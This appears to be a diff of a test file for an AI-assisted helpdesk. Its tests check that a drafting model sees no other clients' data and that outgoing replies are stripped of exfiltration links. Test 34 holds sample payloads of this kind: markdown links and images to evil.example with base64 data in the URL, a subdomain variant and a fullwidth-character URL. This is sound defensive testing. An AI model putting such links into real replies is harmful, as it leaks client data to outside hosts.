@@ -1,12 +1,11 @@
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
-import type { DraftRequest } from "../../src/assistant/engine.ts";
 import { importArticles } from "../../src/steps/import-desk.ts";
 import { draftsOf } from "../../src/store/drafts.ts";
 import { listMail } from "../../src/store/messages.ts";
 import { listTickets } from "../../src/store/tickets.ts";
 import { read, reply, write, type NewMail } from "../support/mail-program.ts";
 import type { RelayedMail } from "../support/relay.ts";
-import { scriptedModel, type ScriptedModel } from "../support/scripted-model.ts";
+import { draftAnswer, scriptedModel, type ScriptedModel } from "../support/scripted-model.ts";
 import { startTestDesk, type TestDesk } from "../support/test-desk.ts";
 
 /** What one person told the desk reaches nobody whom it does not concern: no client, no model, no stranger. */
@@ -116,15 +115,20 @@ describe("canaries", () => {
     expect(drafts).toBeGreaterThanOrEqual(4);
   });
 
-  test("29 · no model is told them, whatever it looks up", () => {
-    for (const [address, foreign] of Object.entries(OTHERS)) {
-      const told = model.told.filter((one) => one.includes(`"requester":{"name"`) && one.includes(address));
+  test("29 · no model is told them", () => {
+    // Ana writes twice and Li twice; each is asked about by their own words.
+    for (const [own, foreign] of [
+      ["canary-ana-body", OTHERS["ana@contoso.example"]],
+      ["canary-li-body", OTHERS["li@fabrikam.example"]],
+    ] as const) {
+      const told = model.told.filter((one) => one.includes(own));
       expect(told.length).toBeGreaterThanOrEqual(2);
-      for (const one of told) for (const canary of foreign) expect(one).not.toContain(canary);
+      for (const one of told) for (const canary of foreign ?? []) expect(one).not.toContain(canary);
     }
-    // It is told what it should know: the client's own earlier ticket, and the client's own article.
-    expect(model.told.some((one) => one.includes("again") && one.includes("canary-ana-subject"))).toBe(true);
+    for (const one of model.told) for (const canary of NOTES) expect(one).not.toContain(canary);
+    // It is told what it should know: the client's own article, and nobody's name or address.
     expect(model.told.some((one) => one.includes("canary-private-article"))).toBe(true);
+    expect(model.told.join("\n")).not.toMatch(/Ana Ruiz|Li Chen|@contoso|@fabrikam/);
   });
 
   test("32 · the bytes on the wire hold the reply and nothing of the desk's inside", async () => {
@@ -279,25 +283,16 @@ describe("a model", () => {
   test("34 · cannot send data out by a link or a picture: they are taken out, and the reviewer is told", async () => {
     const stolen = "c3RvbGVu";
     const model = scriptedModel({
-      draft: (request: DraftRequest) =>
-        Promise.resolve({
-          template: "client/general",
-          body: [
-            "Hi Li,",
-            "",
-            `Please read [our guide](https://evil.example/?d=${stolen}) ![ ](https://evil.example/${stolen}.png)`,
-            `or https://${stolen}.evil.example/x or ｈｔｔｐｓ://evil.example/${stolen} or evil.com/${stolen}.`,
-            "The list has [the handbook](https://docs.msp.example/vpn).",
-            "",
-            request.signature.desk,
-          ].join("\n"),
-          articleIds: [],
-          unsourced: [],
-          sources: [],
-          questions: [],
-          warnings: [],
-          confidence: 0.9,
-        }),
+      draft: () =>
+        Promise.resolve(
+          draftAnswer({
+            body: [
+              `Please read [our guide](https://evil.example/?d=${stolen}) ![ ](https://evil.example/${stolen}.png)`,
+              `or https://${stolen}.evil.example/x or ｈｔｔｐｓ://evil.example/${stolen} or evil.com/${stolen}.`,
+              "The list has [the handbook](https://docs.msp.example/vpn).",
+            ].join("\n"),
+          }),
+        ),
     });
     running = await startTestDesk({ open: { model }, yaml: "links: { allow: [docs.msp.example] }" });
     await wrote({
